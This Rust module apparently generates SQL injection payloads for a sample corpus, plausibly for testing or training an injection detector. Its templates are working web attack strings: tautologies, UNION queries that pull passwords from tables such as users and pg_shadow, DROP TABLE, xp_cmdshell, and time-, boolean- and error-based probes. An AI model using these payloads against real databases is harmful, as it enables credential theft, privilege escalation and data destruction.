//! SQL injection grammar: context break, payload, terminator.

use rand::Rng;

use super::{pick, CorpusRng};

const TABLES: &[&str] = &[
    "users",
    "accounts",
    "admin",
    "members",
    "customers",
    "orders",
    "credentials",
    "information_schema.tables",
    "mysql.user",
    "sysobjects",
    "pg_shadow",
];
const COLUMNS: &[&str] = &[
    "username",
    "password",
    "passwd",
    "email",
    "table_name",
    "column_name",
    "user()",
    "version()",
    "database()",
    "@@version",
    "current_user",
    "name",
    "pass",
    "hash",
];
const STRINGS: &[&str] = &["a", "x", "1", "abc", "admin", "test", "foo", "z", "qwe"];

fn num(rng: &mut CorpusRng) -> u32 {
    rng.gen_range(0..10_000)
}

/// A string or numeric break-out prefix: its text, the quote it closed,
/// and how many parentheses it closed (a balancing condition at the end
/// must reopen them).
fn prefix(rng: &mut CorpusRng) -> (String, Option<char>, usize) {
    match rng.gen_range(0..12) {
        0 => ("'".into(), Some('\''), 0),
        1 => ("\"".into(), Some('"'), 0),
        2 => ("')".into(), Some('\''), 1),
        3 => ("\")".into(), Some('"'), 1),
        4 => (format!("{}'", num(rng)), Some('\''), 0),
        5 => (format!("{}\"", num(rng)), Some('"'), 0),
        6 => (format!("{}", num(rng)), None, 0),
        7 => (format!("{})", num(rng)), None, 1),
        8 => (format!("-{}", num(rng)), None, 0),
        9 => (
            format!(
                "{}'",
                pick(rng, &["admin", "root", "guest", "test", "john"])
            ),
            Some('\''),
            0,
        ),
        10 => ("'))".into(), Some('\''), 2),
        _ => (format!("{}%'", pick(rng, STRINGS)), Some('\''), 0),
    }
}

/// A tautology; `true` when it ends inside a quote the query's own closing
/// quote completes (`' OR 'a'='a`), so nothing may follow it. `open`
/// reopens the parentheses the prefix closed (`') OR ('a'='a`).
fn tautology(rng: &mut CorpusRng, q: Option<char>, parens: usize) -> (String, bool) {
    let n = num(rng);
    let s = pick(rng, STRINGS);
    let or = pick(rng, &["OR", "or", "||", "Or"]);
    let open = "(".repeat(parens);
    match (rng.gen_range(0..7), q) {
        (0, _) => (format!(" {or} {n}={n}"), false),
        (1, Some(c)) => (format!(" {or} {open}{c}{s}{c}={c}{s}"), true),
        (2, Some(c)) => (format!(" {or} {open}{c}{c}={c}"), true),
        (3, _) => (format!(" {or} {}>{}", n + 1, n), false),
        (4, Some(c)) => (format!(" {or} {open}{c}{s}{c} LIKE {c}{s}"), true),
        (5, _) => (format!(" {or} true"), false),
        (6, _) => (
            format!(" {or} {n} BETWEEN {} AND {}", n.saturating_sub(1), n + 1),
            false,
        ),
        _ => (format!(" {or} {n}={n}"), false),
    }
}

fn select_list(rng: &mut CorpusRng) -> String {
    let cols = rng.gen_range(1..6);
    (0..cols)
        .map(|_| match rng.gen_range(0..4) {
            0 => "NULL".to_string(),
            1 => format!("{}", rng.gen_range(1..20)),
            _ => pick(rng, COLUMNS).to_string(),
        })
        .collect::<Vec<_>>()
        .join(",")
}

/// A UNION; `true` when it has a FROM clause (a balancing condition must
/// then be a WHERE).
fn union(rng: &mut CorpusRng) -> (String, bool) {
    let all = pick(rng, &["", " ALL", " DISTINCT"]);
    let list = select_list(rng);
    if rng.gen_bool(0.5) {
        (
            format!(" UNION{all} SELECT {list} FROM {}", pick(rng, TABLES)),
            true,
        )
    } else {
        (format!(" UNION{all} SELECT {list}"), false)
    }
}

fn stacked(rng: &mut CorpusRng) -> String {
    let t = pick(rng, TABLES);
    match rng.gen_range(0..8) {
        0 => format!("; DROP TABLE {t}"),
        1 => format!(
            "; INSERT INTO {t} VALUES ('{}','{}')",
            pick(rng, STRINGS),
            pick(rng, STRINGS)
        ),
        2 => format!("; UPDATE {t} SET role='admin' WHERE id={}", num(rng)),
        3 => "; EXEC xp_cmdshell 'whoami'".into(),
        4 => "; SHUTDOWN".into(),
        5 => format!("; SELECT pg_sleep({})", rng.gen_range(1..15)),
        6 => format!("; DELETE FROM {t}"),
        _ => format!("; SELECT {} FROM {t}", select_list(rng)),
    }
}

fn time_based(rng: &mut CorpusRng) -> String {
    let n = rng.gen_range(1..15);
    let and = pick(rng, &["AND", "OR", "and", "or"]);
    match rng.gen_range(0..7) {
        0 => format!(" {and} SLEEP({n})"),
        1 => format!(" {and} (SELECT * FROM (SELECT(SLEEP({n})))x)"),
        2 => format!("; WAITFOR DELAY '0:0:{n}'"),
        3 => format!(" {and} BENCHMARK({}000000,MD5({n}))", rng.gen_range(1..9)),
        4 => format!(" {and} pg_sleep({n})"),
        5 => format!(" {and} IF(1=1,SLEEP({n}),0)"),
        _ => format!(
            " {and} {} = (SELECT {} FROM PG_SLEEP({n}))",
            num(rng),
            num(rng)
        ),
    }
}

fn boolean_blind(rng: &mut CorpusRng) -> String {
    let n = rng.gen_range(30..127);
    match rng.gen_range(0..6) {
        0 => format!(" AND {0}={0}", num(rng)),
        1 => format!(" AND {}={}", num(rng), num(rng)),
        2 => format!(
            " AND ASCII(SUBSTRING((SELECT {} FROM {} LIMIT 1),{},1))>{n}",
            pick(rng, COLUMNS),
            pick(rng, TABLES),
            rng.gen_range(1..10)
        ),
        3 => format!(" AND LENGTH(database())>{}", rng.gen_range(1..20)),
        4 => format!(" AND (SELECT COUNT(*) FROM {})>0", pick(rng, TABLES)),
        _ => format!(" AND SUBSTRING(version(),1,1)='{}'", rng.gen_range(4..9)),
    }
}

fn error_based(rng: &mut CorpusRng) -> String {
    match rng.gen_range(0..4) {
        0 => format!(
            " AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT {})))",
            pick(rng, COLUMNS)
        ),
        1 => format!(" AND UPDATEXML(1,CONCAT(0x7e,{}),1)", pick(rng, COLUMNS)),
        2 => " AND 1=CONVERT(int,@@version)".into(),
        _ => " OR 1 GROUP BY CONCAT(version(),FLOOR(RAND(0)*2)) HAVING MIN(0)".into(),
    }
}

/// How the payload ends: a comment that cuts the rest of the query, or
/// (`balance`: the keyword joining it) a condition whose last quote the
/// query's own quote closes, reopening the `parens` the prefix closed.
fn terminator(
    rng: &mut CorpusRng,
    q: Option<char>,
    balance: Option<&str>,
    parens: usize,
) -> String {
    match (rng.gen_range(0..7), q, balance) {
        (0, _, _) => "--".into(),
        (1, _, _) => "-- -".into(),
        (2, _, _) => "#".into(),
        (3, _, _) => ";--".into(),
        (4, Some(c), Some(kw)) => {
            let (s, open) = (pick(rng, STRINGS), "(".repeat(parens));
            format!(" {kw} {open}{c}{s}{c}={c}{s}")
        }
        _ => "-- ".into(),
    }
}

/// One SQL injection payload.
pub fn generate(rng: &mut CorpusRng) -> String {
    let (pre, q, parens) = prefix(rng);
    // How a balancing condition may join the body (`None`: only a comment
    // can end it — stacked statements, MSSQL's WAITFOR).
    let (body, open_quote, balance) = match rng.gen_range(0..9) {
        0 | 1 => {
            let (t, open) = tautology(rng, q, parens);
            (t, open, Some("AND"))
        }
        2 | 3 => {
            let (u, from) = union(rng);
            (u, false, Some(if from { "WHERE" } else { "AND" }))
        }
        4 => (stacked(rng), false, None),
        5 => {
            let t = time_based(rng);
            let stacked = t.starts_with(';');
            (t, false, (!stacked).then_some("AND"))
        }
        6 => (boolean_blind(rng), false, Some("AND")),
        7 => (error_based(rng), false, Some("AND")),
        // ORDER BY ends the query: only a comment can follow it.
        _ => (format!(" ORDER BY {}", rng.gen_range(1..30)), false, None),
    };
    // Comment truncation alone (admin'--) is an attack too.
    if rng.gen_ratio(1, 12) && q.is_some() {
        return format!("{pre}{}", pick(rng, &["--", "#", "-- -", ";--"]));
    }
    if open_quote {
        // `' OR 'a'='a`: the query's own closing quote completes it.
        return format!("{pre}{body}");
    }
    let term = if balance.is_some() {
        terminator(rng, q, balance, parens)
    } else {
        pick(rng, &["--", "-- -", "-- "]).to_string()
    };
    format!("{pre}{body}{term}")
}
